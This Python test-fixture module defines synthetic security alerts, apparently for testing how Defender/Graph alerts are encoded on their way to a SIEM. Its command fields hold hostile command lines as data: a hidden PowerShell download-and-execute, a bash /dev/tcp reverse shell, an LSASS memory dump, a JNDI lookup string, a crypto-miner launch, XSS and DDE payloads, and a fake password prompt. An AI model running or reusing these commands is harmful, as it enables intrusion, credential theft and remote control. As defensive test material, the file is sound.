# Copyright (c) 2026 secops.defender contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What happened: the stories that alerts tell. Each story has texts, an operating system and kinds of evidence.

The texts hold what makes trouble on the way to a SIEM: quotes, backslashes, template and HTML marks, control
characters, escapes that a re-encoder would change, text that looks like a secret. None of it is real.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from .jsontext import Raw, Slot, Text

PROCESS_NAMES = {"windows": "C:\\\\Windows\\\\System32", "linux": "/usr/bin", "macos": "/bin"}


@dataclass(frozen=True)
class Story:
    title: str | Text
    description: str | Text
    category: str
    severity: tuple[str, ...]
    service: str = "microsoftDefenderForEndpoint"
    detection: str = "microsoftDefenderForEndpoint"
    # Only new clients, which ask for them, see members that are younger than the API's version.
    service_is_new: bool = False
    system: str = "windows"
    process: str = "powershell.exe"
    command: str | Text = ""
    techniques: tuple[str, ...] = ()
    evidence: tuple[str, ...] = ("device", "process")
    threat: str | None = None
    family: str | None = None
    id_form: str = "ticks"
    # JSON of Graph's additionalData, and keys that no documentation names.
    additional: Any = None
    extra: dict[str, Any] = field(default_factory=dict)


ADVICE = (
    "Collect artifacts and determine scope\n\u2022\tReview the machine timeline for suspicious activities.\n"
    "\u2022\tContact the user to verify intent.\n"
)

MALWARE_NOTE = (
    "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions "
    "on affected machines. Some of these undesirable applications can replicate and spread from one machine to another."
)

STORIES = (
    Story(
        title="Suspicious PowerShell command line",
        description="A suspicious PowerShell activity was observed on the machine.\n\nThis behavior may indicate that "
        "PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
        category="Execution",
        severity=("medium", "medium", "high"),
        command=Text(
            '"powershell.exe" -NoP -W Hidden -c "& {$p=\'',
            Slot("hex16"),
            "'; IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.7/a.ps1?x=1&y=%20')}\"",
        ),
        techniques=("T1059.001", "T1027"),
        additional={"EventId": Slot("big"), "score": Raw("1.0"), "ratio": Raw("0.1000"), "limit": Raw("1E400")},
    ),
    Story(
        title=Text("'", Slot("malware"), "' malware was prevented"),
        description=MALWARE_NOTE,
        category="Malware",
        severity=("informational", "low", "low", "medium"),
        detection="antivirus",
        process="explorer.exe",
        command="C:\\Windows\\Explorer.EXE",
        evidence=("device", "file", "user"),
        threat="Trojan:Win32/Wacatac.B!ml",
        family="Wacatac",
        additional={"ScanId": Text(Slot("guid")), "Empty": "", "Nothing": None, "Nested": {"a": [[], {}, [0.5, -0]]}},
    ),
    Story(
        title="Suspicious sequence of exploration activities",
        description="A process called a set of windows commands. These commands can be used by attackers to identify "
        "assets of value and coordinate lateral movement after compromising a machine.",
        category="Discovery",
        severity=("low",),
        process="cmd.exe",
        command='cmd.exe /c "whoami /all & net group \\"Domain Admins\\" /domain & nltest /dclist:"',
        techniques=("T1033", "T1087", "T1016"),
        evidence=("device", "process"),
    ),
    Story(
        title="Possible credential theft: sensitive credential memory read",
        description="A process read the memory of lsass.exe. Tab\there, bell\u0007 there, and a vertical \u000b one.",
        category="CredentialAccess",
        severity=("high",),
        process="rundll32.exe",
        command=Text(
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ",
            Slot("pid"),
            " C:\\Temp\\l.dmp full /pass:Sup3r$ecret! --token=eyJhbGciOiJub25lIn0.e30.",
        ),
        techniques=("T1003.001",),
        evidence=("device", "process", "registry"),
        additional={"Bits": Raw("[1e5, 1E+05, 100000.0, -0.0, 5e-324]"), "Ünïcode kéy": True},
    ),
    Story(
        title="Suspicious shell command line on Linux server",
        description="A reverse shell was opened with a scripting language.",
        category="CommandAndControl",
        severity=("medium", "high"),
        system="linux",
        process="bash",
        command="bash -c 'exec 5<>/dev/tcp/198.51.100.23/4444; cat <&5 | while read l; do $l 2>&5 >&5; done' # `id`",
        techniques=("T1059.004", "T1071"),
        evidence=("device", "process", "ip", "user"),
    ),
    Story(
        title="Cryptocurrency miner {{ 7*7 }} ${jndi:ldap://198.51.100.9/a}",
        description="Template marks {% raw %} and shell marks $(id) `id` %s %n must arrive as they are.",
        category="Impact",
        severity=("medium",),
        system="linux",
        process="xmrig",
        command="/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u 44{{ user }} -p x --donate-level 1",
        techniques=("T1496",),
        evidence=("process", "device", "ip", "url"),
        additional={"hash rate": Raw("12345678901234567890.123456789"), "pool": "{{ lookup('env','HOME') }}"},
    ),
    Story(
        title="Suspicious launch agent <script>alert(1)</script>",
        description="A launch agent was added. <b onmouseover=\"alert('x')\">=cmd|' /C calc'!A0</b>",
        category="Persistence",
        severity=("low", "medium"),
        system="macos",
        process="osascript",
        command='osascript -e \'display dialog "Your password:" default answer "" with hidden answer\'',
        techniques=("T1543.001",),
        evidence=("process", "file", "device"),
    ),
    Story(
        title=Text("D", Raw("\\u00e9"), "tection ", Raw("\\/"), " Malware sur le poste ", Raw("\\ud83d\\udc1b")),
        description=Text(
            "Un fichier suspect a ",
            Raw("\\u00e9t\\u00e9"),
            " trouv\u00e9 ",
            Raw('\\" \\\\ \\/ \\b\\f\\n\\r\\t \\u001f \\u2028'),
        ),
        category="SuspiciousActivity",
        severity=("low", "informational"),
        detection="smartScreen",
        process="chrome.exe",
        command=Text("chrome.exe --profile=", Raw("\\u00c9l\\u00e8ve"), " https:", Raw("\\/\\/"), "example.com"),
        evidence=("device", "file", "url", "user"),
    ),
    Story(
        title="Atypical travel involving one user",
        description="Sign-in from two distant places within a time that is shorter than any flight.",
        category="InitialAccess",
        severity=("medium", "unknown"),
        service="azureAdIdentityProtection",
        detection="azureAdIdentityProtection",
        process="",
        techniques=("T1078", "T1078.004"),
        evidence=("user", "ip", "cloud_logon"),
        id_form="ad",
        additional=None,
    ),
    Story(
        title="Email messages containing malicious URL removed after delivery\u200b",
        description="Emails with malicious URL that were delivered and later removed -V1.0.0.3",
        category="InitialAccess",
        severity=("informational",),
        service="microsoftDefenderForOffice365",
        detection="microsoftDefenderForOffice365",
        process="",
        techniques=("T1566.002",),
        evidence=("mailbox", "message", "url"),
        id_form="fa",
        additional={
            "MachineName": None,
            "Urls": ["https://xn--bcher-kva.example/?a=1&b=%7B2%7D", "hxxps://bad[.]example"],
        },
        extra={"alertPolicyId": Text(Slot("guid"))},
    ),
    Story(
        title="Suspected brute-force attack (Kerberos, NTLM)",
        description="An actor tried 1,024 passwords against the domain controller.",
        category="CredentialAccess",
        severity=("medium",),
        service="microsoftDefenderForIdentity",
        detection="microsoftDefenderForIdentity",
        process="",
        techniques=("T1110",),
        evidence=("device", "user", "ip"),
        id_form="aa",
    ),
    Story(
        title="Mass download by a single user",
        description="More than 9,007,199,254,740,993 bytes were downloaded.",
        category="Exfiltration",
        severity=("high", "medium"),
        service="microsoftDefenderForCloudApps",
        detection="cloudAppSecurity",
        process="",
        techniques=("T1530",),
        evidence=("user", "ip", "cloud_application"),
        id_form="ca",
        additional={"bytes": 9007199254740993, "files": Slot("big"), "duplicate": 1, "Duplicate": 2},
    ),
    Story(
        title="Sentinel analytics rule: rare process",
        description="A scheduled analytics rule matched.",
        category="Malware",
        severity=("low", "medium"),
        service="microsoftSentinel",
        service_is_new=True,
        detection="scheduledAlerts",
        process="wscript.exe",
        command='wscript.exe //B "C:\\Users\\Public\\Invoice #42 (final).js" \u202egpj.exe',
        evidence=("device", "process", "future"),
        id_form="guid",
        extra={"customDetails": {"Rule": "r-7", "Count": "3"}, "x-futureKey": [1, {"deep": [None, True]}]},
    ),
    Story(
        title="Connection to a custom network indicator",
        description="An endpoint has connected to a URL or domain in your list of custom indicators.",
        category="CommandAndControl",
        severity=("informational", "high"),
        detection="customTi",
        process="svchost.exe",
        command="svchost.exe -k netsvcs -p -s Schedule",
        evidence=("process", "url"),
    ),
)
